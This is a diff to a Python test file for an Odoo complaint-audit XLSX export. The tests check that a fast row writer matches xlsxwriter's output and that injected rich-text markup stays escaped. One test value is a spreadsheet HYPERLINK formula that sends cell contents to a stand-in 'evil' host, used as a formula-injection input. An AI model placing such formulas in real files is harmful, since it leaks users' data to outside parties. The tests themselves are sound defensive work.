@@ -2,14 +2,17 @@
 # License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
 import hashlib
 import io
+import zipfile
 from datetime import datetime
 
 import openpyxl
+import xlsxwriter
 from freezegun import freeze_time
 
 from odoo import Command
 from odoo.tests import tagged
 
+from ..report.complaint_register_xlsx import _RowWriter
 from .common import ComplaintAuditCommon
 
 FORMULA_TEXT = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click me")'
@@ -238,3 +241,69 @@ class TestRegisterXlsx(ComplaintAuditCommon):
             cron.method_direct_trigger()
             again = Mail.search([]) - mails_before - mails
             self.assertFalse(again, again.mapped("subject"))
+
+
+# Texts that xlsxwriter escapes in its own ways in an inline string.
+TRICKY_TEXTS = [
+    "  leading spaces",
+    "trailing space ",
+    "a & b <c> \"quoted\" 'single'",
+    "looks escaped: _x0041_ and _X00ff_",
+    "control \x01 and \x1f characters, tab\tand\nnew line",
+    "non-characters \ufffe \uffff",
+    "x" * 40000,
+    FORMULA_TEXT,
+    "Ünïcödé — ✓",
+]
+
+
+@tagged("post_install", "-at_install")
+class TestRegisterRowWriter(ComplaintAuditCommon):
+    """The register writes its rows as one XML string per chunk: the cells must be
+    the very ones xlsxwriter's own ``write_string`` / ``write_number`` /
+    ``write_datetime`` produce."""
+
+    def _sheet_xml(self, fast, rows, kinds):
+        report = self.env["report.complaint_audit.register_xlsx"]
+        buffer = io.BytesIO()
+        workbook = xlsxwriter.Workbook(buffer, report.get_workbook_options())
+        formats = report._register_formats(workbook)
+        sheet = workbook.add_worksheet("Register")
+        for col, kind in enumerate(kinds):
+            sheet.set_column(col, col, 12, formats.get(kind))
+            sheet.write_string(0, col, f"H{col}", formats["header"])
+        writer = _RowWriter(sheet, kinds, formats)
+        writer.fast = fast
+        writer.add_rows(1, rows[:2])
+        writer.add_rows(3, rows[2:])
+        workbook.close()
+        with zipfile.ZipFile(buffer) as archive:
+            return archive.read("xl/worksheets/sheet1.xml"), buffer.getvalue()
+
+    def test_same_xml_as_xlsxwriter(self):
+        kinds = ["text", "datetime", "amount", "integer", "text"]
+        moment = datetime(2026, 3, 2, 9, 30, 15)
+        rows = [
+            [text, moment, 120.5, index, None]
+            for index, text in enumerate(TRICKY_TEXTS)
+        ]
+        rows.append(["", None, 0.0, 0, False])
+        fast, content = self._sheet_xml(True, rows, kinds)
+        api, _content = self._sheet_xml(False, rows, kinds)
+        self.assertEqual(fast, api)
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        self.assertEqual(sheet.cell(row=2, column=1).value, TRICKY_TEXTS[0])
+        self.assertEqual(sheet.cell(row=8, column=1).value, "x" * 32767)
+        self.assertEqual(sheet.cell(row=2, column=2).value, moment)
+        self.assertEqual(sheet.cell(row=2, column=2).number_format, "yyyy-mm-dd hh:mm")
+        self.assertEqual(sheet.cell(row=11, column=3).value, 0)
+
+    def test_rich_text_markup_stays_text(self):
+        """xlsxwriter writes a text shaped like rich-text XML (``<r>…</r>``)
+        unescaped into the sheet; the register escapes it: a complaint's text
+        cannot inject markup into the auditor's file."""
+        markup = "<r><t>injected</t></r><is><t>x</t></is></r>"
+        text = f"<r>{markup}</r>"
+        _xml, content = self._sheet_xml(True, [[text]], ["text"])
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        self.assertEqual(sheet.cell(row=2, column=1).value, text)
